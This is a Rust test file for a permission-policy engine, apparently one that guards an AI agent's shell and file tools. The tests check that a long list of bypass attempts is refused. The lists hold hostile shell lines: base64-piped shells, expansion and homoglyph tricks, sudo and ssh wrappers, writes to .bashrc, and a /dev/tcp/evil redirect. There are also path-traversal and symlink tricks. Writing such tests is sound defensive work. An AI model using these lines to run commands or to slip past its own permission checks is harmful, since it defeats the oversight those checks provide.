//! Attacks on policies, one per row: command lines that imitate allowed ones, and paths in other
//! spellings.

use std::path::Path;

use goondan_spec::kinds::{MarkedArguments, PermissionAction, Permissions};
use serde_json::json;

use super::tests::{NOT_ALLOWED, rule, shell_action};
use super::{PathArguments, PolicyQuestion, decide};

/// More lines that do not match `git *`, `echo *` and `ls`, in addition to [`NOT_ALLOWED`].
const BYPASSES: &[&str] = &[
    // Nested wrappers.
    "env -i rm x",
    "env -C / rm x",
    "nice -n 5 nohup setsid rm x",
    "ionice -c 3 rm x",
    "chroot . rm x",
    "unshare rm x",
    "script -c 'rm x'",
    "watch rm x",
    "parallel rm ::: x",
    "flock lock rm x",
    "strace rm x",
    "su -c 'rm x'",
    "runuser -u nobody rm x",
    "pkexec rm x",
    "ssh localhost rm x",
    "time -p rm x",
    "timeout 5 timeout 5 env rm x",
    "command command rm x",
    "builtin command rm x",
    "exec -a git rm x",
    "xargs -a list rm",
    "xargs -n1 -P4 -- rm",
    "find . -ok rm {} ;",
    "find . -execdir rm {} +",
    "find . -delete",
    "python3 -c 'import os; os.remove(\"x\")'",
    "perl -e 'unlink x'",
    "awk 'BEGIN{system(\"rm x\")}'",
    "sed -i s/a/b/ x",
    "tee x",
    "dd of=x",
    // A shell inside a shell.
    "sh -c 'sh -c \"rm x\"'",
    "bash -c \"git log; $X\"",
    "bash -c $'rm x'",
    "bash --rcfile evil -i",
    "dash -c 'rm x'",
    "zsh -c 'rm x'",
    "sh -x -c 'rm x'",
    "sh -- script",
    "sh <<E\nrm x\nE\n",
    "bash <<< 'rm x'",
    "bash <(echo rm x)",
    "echo cm0geA== | base64 -d | sh",
    "printf 'rm x' | bash -s",
    // Command names from expansions.
    "r${X}m x",
    "${X}m x",
    "$'\\x72m' x",
    "$'\\162\\155' x",
    "r\"\"m x",
    "r?m x",
    "/bin/r? x",
    "/???/rm x",
    "~/rm x",
    "{rm,x}",
    "rm{,} x",
    "rm${IFS}x",
    "git${IFS}log",
    "ls${IFS};rm x",
    "IFS=x; git log",
    "X=rm; $X x",
    "X='rm x' eval $X",
    "${X:-rm} x",
    "${X:=rm} x",
    "${!X} x",
    "$(printf rm) x",
    "`echo rm` x",
    "echo ${X:-`rm x`}",
    "echo $(( $(rm x) ))",
    "echo $[$(rm x)]",
    "echo \"${X//a/$(rm x)}\"",
    "echo ${X@P}",
    "echo \"$(echo \"$(rm x)\")\"",
    // Look-alike separators and spaces.
    "git log\rrm x",
    "git\u{2003}log",
    "git\u{3000}log",
    "git\u{200b} log",
    "ｇit log",
    "gіt log",
    "git log\n\n\nrm x",
    "git log;\nrm x",
    "git log &\nrm x",
    "git log & disown; rm x",
    "git log |& rm x",
    "git log || { rm x; }",
    "# git log\nrm x",
    "git log # \\\nrm x",
    "git log \\\n; rm x",
    "git log 'a\nb'; rm x",
    ":; rm x",
    "true && rm x",
    "[ -f x ] && rm x",
    "test -f x; rm x",
    // Functions, aliases, traps, settings.
    "function ls() { rm x; }\nls",
    "echo() { rm x; }; echo",
    "alias echo='rm x'; echo",
    "\\alias ls=rm",
    "unalias ls; rm x",
    "trap 'rm x' DEBUG",
    "set -- rm x; \"$@\"",
    "\"$@\"",
    "$0 -c 'rm x'",
    "enable -f ./evil.so ls; ls",
    "hash -p ./rm git; git log",
    "shopt -s expand_aliases; alias git=rm",
    "source /dev/stdin <<< 'rm x'",
    ". /dev/stdin <<E\nrm x\nE",
    "PROMPT_COMMAND='rm x' git log",
    "BASH_ENV=evil git log",
    "ENV=evil git log",
    "export GIT_SSH_COMMAND='rm x'; git fetch",
    "declare -x GIT_PAGER='rm x'",
    "read X; $X",
    "mapfile -C 'rm x' a",
    "complete -C 'rm x' a",
    "bind -x '\"a\":rm x'",
    "printf -v PATH .",
    // Redirections.
    "echo evil > .bashrc",
    "echo evil >> /etc/profile",
    "echo evil >| x",
    "echo evil &>> x",
    "echo evil > $X",
    "echo evil > \"$(rm x)\"",
    "echo evil >&x",
    "echo evil 3> x >&3",
    "echo evil > /dev/tcp/evil/80",
    "echo evil > >(sh)",
    "exec 3<> /dev/tcp/evil/80",
    // Programs in other directories.
    "/tmp/echo x",
    "./ls",
    "../../bin/ls",
    "/usr/bin/env rm x",
    "/bin/busybox sh",
];

#[test]
fn command_lines_that_imitate_allowed_commands_are_not_allowed() {
    let rules = [
        ("git *", PermissionAction::Allow),
        ("echo *", PermissionAction::Allow),
        ("ls", PermissionAction::Allow),
    ];
    let rows = || BYPASSES.iter().chain(NOT_ALLOWED);
    let allowed: Vec<_> = rows()
        .filter(|line| {
            shell_action(PermissionAction::Deny, &rules, line) == PermissionAction::Allow
        })
        .collect();
    assert!(allowed.is_empty(), "{allowed:#?}");
    println!(
        "attacks: shell, past a list of what is allowed: {} refused",
        rows().count()
    );
}

/// Lines that run `rm` or may run it.
const HIDDEN: &[&str] = &[
    "rm x",
    "/bin/rm x",
    "../bin/rm x",
    "r'm' x",
    "r\\m x",
    "\"rm\" x",
    "rm\tx",
    "rm  x",
    "rm 'x'",
    "rm -- x",
    "A=1 B=2 rm x",
    "! rm x",
    "rm x > out",
    "< in rm x",
    "> out rm x",
    "rm x | cat",
    "cat | rm x",
    "(rm x)",
    "{ rm x; }",
    "while true; do rm x; done",
    "case a in *) rm x ;; esac",
    "for i in 1; do rm x; done",
    "if rm x; then :; fi",
    "f() { rm x; }; f",
    "ls $(rm x)",
    "ls `rm x`",
    "ls <(rm x)",
    "ls \"${A:-$(rm x)}\"",
    "A=$(rm x)",
    "A=$(rm x) ls",
    "ls > $(rm x)",
    "cat <<E\n`rm x`\nE\n",
    "coproc rm x",
    "time rm x",
    "nohup rm x &",
    "sudo rm x",
    "sudo -E -u root -- rm x",
    "doas rm x",
    "env rm x",
    "env -i A=1 rm x",
    "exec rm x",
    "command rm x",
    "nice -n 3 ionice rm x",
    "stdbuf -oL rm x",
    "xargs rm",
    "xargs -I{} rm {}",
    "find . -exec rm {} +",
    "find . -execdir /bin/rm {} ;",
    "sh -c 'rm x'",
    "bash -lc 'ls; rm x'",
    "sh -c 'sh -c \"rm x\"'",
    "sh -c \"$X\"",
    "eval rm x",
    "eval \"r\"\"m x\"",
    "X=rm; $X x",
    "$X x",
    "r$X x",
    "$(echo rm) x",
    "{rm,-f} x",
    "r? x",
    "/bin/r* x",
    "rm${IFS}x",
    "$'rm' x",
    "$'\\x72m' x",
    "source script",
    ". ./script",
    "alias l=rm; l x",
    "trap 'rm x' EXIT",
    "echo rm x | sh",
    "sh < script",
    "bash <<< 'rm x'",
    "a 'b",
    "busybox rm x",
];

#[test]
fn command_lines_that_hide_a_denied_command_are_not_allowed() {
    let rules = [("rm *", PermissionAction::Deny)];
    let allowed: Vec<_> = HIDDEN
        .iter()
        .filter(|line| {
            shell_action(PermissionAction::Allow, &rules, line) == PermissionAction::Allow
        })
        .collect();
    assert!(allowed.is_empty(), "{allowed:#?}");
    println!(
        "attacks: shell, around a list of what is denied: {} refused",
        HIDDEN.len()
    );
}

fn path_action(
    rules: &[(&str, PermissionAction)],
    default: PermissionAction,
    folder: Option<&Path>,
    path: &str,
) -> PermissionAction {
    let rules = rules
        .iter()
        .map(|(pattern, action)| rule(None, None, &[("path", pattern)], *action))
        .collect();
    let permissions = Permissions {
        default,
        rules,
        sandbox: None,
    };
    let marked = MarkedArguments {
        paths: vec!["path".to_owned()],
        ..MarkedArguments::default()
    };
    let arguments = json!({"path": path}).as_object().cloned().unwrap();
    let paths = match folder {
        Some(folder) => PathArguments::within(folder, &marked, &arguments),
        None => PathArguments::of(&marked, &arguments),
    };
    let needs = Default::default();
    let question = PolicyQuestion {
        tool_name: "fs__write",
        needs: &needs,
        arguments: &arguments,
        marked: &marked,
        paths: &paths,
    };
    decide(Some(&permissions), question).action
}

#[test]
fn path_rules_match_other_spellings_of_a_path() {
    let denied = [
        "keep/x",
        "./keep/x",
        "././keep/x",
        "keep//x",
        "keep/./x",
        ".//keep/x",
        "keep/x/",
        "keep/a/../x",
        "a/../keep/x",
        "a/b/../../keep/x",
        "a/./../keep/./x",
        "./a/..//keep/x",
    ];
    for path in denied {
        assert_eq!(
            path_action(
                &[("keep/*", PermissionAction::Deny)],
                PermissionAction::Allow,
                None,
                path
            ),
            PermissionAction::Deny,
            "{path}"
        );
        assert_eq!(
            path_action(
                &[("./keep/*", PermissionAction::Ask)],
                PermissionAction::Allow,
                None,
                path
            ),
            PermissionAction::Ask,
            "{path}"
        );
    }
    let not_allowed = [
        "keep/../x",
        "keep/../../x",
        "keep/a/../../x",
        "./keep/../x",
        "keep/..",
        "keep/.",
        "../keep/x",
    ];
    for path in not_allowed {
        assert_eq!(
            path_action(
                &[("keep/*", PermissionAction::Allow)],
                PermissionAction::Deny,
                None,
                path
            ),
            PermissionAction::Deny,
            "{path}"
        );
    }
    assert_eq!(
        path_action(
            &[("keep/*", PermissionAction::Allow)],
            PermissionAction::Deny,
            None,
            "./keep/x"
        ),
        PermissionAction::Allow
    );
    println!(
        "attacks: paths, spelled otherwise for a policy: {} refused",
        denied.len() + not_allowed.len()
    );
}

#[cfg(unix)]
#[test]
fn path_rules_match_paths_through_links() {
    use std::os::unix::fs::symlink;
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("work");
    std::fs::create_dir_all(folder.join("keep")).unwrap();
    std::fs::create_dir_all(folder.join("a/b")).unwrap();
    std::fs::create_dir_all(dir.path().join("out")).unwrap();
    for (target, link) in [
        ("keep", "to-keep"),
        ("to-keep", "chain"),
        ("keep/new", "dangling"),
        ("a/b", "deep"),
        ("../out", "keep/leave"),
    ] {
        symlink(target, folder.join(link)).unwrap();
    }
    symlink(folder.join("keep"), folder.join("absolute")).unwrap();
    let absolute = folder.join("keep/x").display().to_string();
    let around = format!("{}/a/../keep/x", folder.display());
    let denied = [
        "to-keep/x",
        "chain/x",
        "dangling",
        "absolute/x",
        "deep/../../keep/x",
        "../work/keep/x",
        &absolute,
        &around,
    ];
    for path in denied {
        let action = path_action(
            &[("keep/*", PermissionAction::Deny)],
            PermissionAction::Allow,
            Some(&folder),
            path,
        );
        assert_eq!(action, PermissionAction::Deny, "{path}");
    }
    let not_allowed = ["keep/leave/x", "keep/leave", "keep/../a/x"];
    for path in not_allowed {
        let action = path_action(
            &[("keep/*", PermissionAction::Allow)],
            PermissionAction::Deny,
            Some(&folder),
            path,
        );
        assert_eq!(action, PermissionAction::Deny, "{path}");
    }
    for path in ["keep/x", "to-keep/x/../y", &absolute] {
        let action = path_action(
            &[("keep/*", PermissionAction::Allow)],
            PermissionAction::Deny,
            Some(&folder),
            path,
        );
        assert_eq!(
            action == PermissionAction::Allow,
            !path.starts_with("to-"),
            "{path}"
        );
    }
    println!(
        "attacks: paths, through links around a policy: {} refused",
        denied.len() + not_allowed.len()
    );
}

/// Returns the action of path rules for a call with marked arguments.
fn path_rule_action(
    rules: &[(&str, PermissionAction)],
    default: PermissionAction,
    folder: &Path,
    marked: &MarkedArguments,
    arguments: serde_json::Value,
) -> PermissionAction {
    let arguments = arguments.as_object().cloned().unwrap_or_default();
    let rules = rules
        .iter()
        .map(|(pattern, action)| rule(None, None, &[("path", pattern)], *action))
        .collect();
    let permissions = Permissions {
        default,
        rules,
        sandbox: None,
    };
    let paths = PathArguments::within(folder, marked, &arguments);
    let needs = Default::default();
    let question = PolicyQuestion {
        tool_name: "fs__x",
        needs: &needs,
        arguments: &arguments,
        marked,
        paths: &paths,
    };
    decide(Some(&permissions), question).action
}

#[test]
fn path_rules_match_paths_in_patches_and_lists() {
    let dir = tempfile::tempdir().unwrap();
    let patched = MarkedArguments {
        patches: vec!["patch".to_owned()],
        ..MarkedArguments::default()
    };
    let action_for = |rules: &[(&str, PermissionAction)], default, body: &str| {
        let patch = format!("*** Begin Patch\n{body}\n*** End Patch");
        path_rule_action(
            rules,
            default,
            dir.path(),
            &patched,
            json!({"patch": patch}),
        )
    };
    let denied = [
        "*** Add File: keep/x\n+a",
        "*** Delete File: keep/x",
        "*** Update File: keep/x\n@@\n-a\n+b",
        "*** Update File: a\n*** Move to: keep/x",
        "*** Add File: a\n+a\n*** Add File: keep/x\n+a",
        "*** Add File: ./a/..//keep/x\n+a",
        "*** Add File:keep/x\n+a",
        "*** Add File:   keep/x   \n+a",
        "  *** Delete File: keep/x",
        "*** Update File: a\n  *** Move to:\tkeep/x",
        "*** Delete File: a\r\n*** Delete File: keep/x\r",
        &format!("*** Delete File: {}/keep/x", dir.path().display()),
    ];
    for body in denied {
        assert_eq!(
            action_for(
                &[("keep/*", PermissionAction::Deny)],
                PermissionAction::Allow,
                body
            ),
            PermissionAction::Deny,
            "{body}"
        );
    }
    let not_allowed = [
        "*** Delete File: a",
        "*** Delete File: keep/x\n*** Delete File: a",
        "*** Delete File: keep/../a",
    ];
    for body in not_allowed {
        assert_eq!(
            action_for(
                &[("keep/*", PermissionAction::Allow)],
                PermissionAction::Deny,
                body
            ),
            PermissionAction::Deny,
            "{body}"
        );
    }
    let two = "*** Delete File: keep/x\n*** Update File: also/y\n*** Move to: keep/y\n";
    assert_eq!(
        action_for(
            &[
                ("keep/*", PermissionAction::Allow),
                ("also/*", PermissionAction::Allow)
            ],
            PermissionAction::Deny,
            two
        ),
        PermissionAction::Allow
    );
    let listed = MarkedArguments {
        paths: vec!["path".to_owned()],
        ..MarkedArguments::default()
    };
    let list = |rules: &[(&str, PermissionAction)], default, paths| {
        path_rule_action(rules, default, dir.path(), &listed, json!({"path": paths}))
    };
    assert_eq!(
        list(
            &[("keep/*", PermissionAction::Deny)],
            PermissionAction::Allow,
            json!(["a", "b/../keep/x"])
        ),
        PermissionAction::Deny
    );
    assert_eq!(
        list(
            &[("keep/*", PermissionAction::Allow)],
            PermissionAction::Ask,
            json!(["keep/a", "b"])
        ),
        PermissionAction::Ask
    );
    assert_eq!(
        list(
            &[("keep/*", PermissionAction::Allow)],
            PermissionAction::Ask,
            json!(["keep/a", "./keep/b"])
        ),
        PermissionAction::Allow
    );
    println!(
        "attacks: paths, in patches and lists for a policy: {} refused",
        denied.len() + not_allowed.len() + 2
    );
}

#[test]
fn path_rules_match_paths_below_a_searched_directory() {
    let dir = tempfile::tempdir().unwrap();
    let marked = MarkedArguments {
        trees: vec!["path".to_owned()],
        ..MarkedArguments::default()
    };
    let action_for = |pattern, default, path: &str| {
        let action = if default == PermissionAction::Deny {
            PermissionAction::Allow
        } else {
            PermissionAction::Deny
        };
        path_rule_action(
            &[(pattern, action)],
            default,
            dir.path(),
            &marked,
            json!({"path": path}),
        )
    };
    let absolute = dir.path().join("a").display().to_string();
    let doubtful = [
        ("a/keep/*", "."),
        ("a/keep/*", "a"),
        ("a/keep/*", "./a/"),
        ("*.pem", "a"),
        ("a/keep/*", &absolute),
        ("a/k?", "a/b/.."),
    ];
    for (pattern, path) in doubtful {
        assert_eq!(
            action_for(pattern, PermissionAction::Allow, path),
            PermissionAction::Ask,
            "{pattern} {path}"
        );
    }
    assert_eq!(
        action_for("a/keep/*", PermissionAction::Allow, "a/keep/b"),
        PermissionAction::Deny
    );
    for (pattern, path) in [
        ("a/keep/*", "b"),
        ("/etc/*", "."),
        ("../x", "."),
        ("ab", "a"),
    ] {
        assert_eq!(
            action_for(pattern, PermissionAction::Allow, path),
            PermissionAction::Allow,
            "{pattern} {path}"
        );
    }
    assert_eq!(
        action_for("a/*", PermissionAction::Deny, "a/b"),
        PermissionAction::Allow
    );
    println!(
        "attacks: paths, below what is searched for a policy: {} refused",
        doubtful.len() + 1
    );
}

#[test]
fn path_rules_match_outside_paths_relative_to_the_working_directory() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("work");
    std::fs::create_dir_all(&folder).unwrap();
    let absolute = dir
        .path()
        .canonicalize()
        .unwrap()
        .join("shared/x")
        .display()
        .to_string();
    for path in ["../shared/x", "a/../../shared/x", &absolute] {
        for (rules, expected) in [
            ("../shared/*", PermissionAction::Allow),
            ("../other/*", PermissionAction::Ask),
            ("shared/*", PermissionAction::Ask),
        ] {
            let action = path_action(
                &[(rules, PermissionAction::Allow)],
                PermissionAction::Ask,
                Some(&folder),
                path,
            );
            assert_eq!(action, expected, "{rules} {path}");
        }
        assert_eq!(
            path_action(
                &[("../shared/./*", PermissionAction::Deny)],
                PermissionAction::Allow,
                Some(&folder),
                path
            ),
            PermissionAction::Deny
        );
    }
}
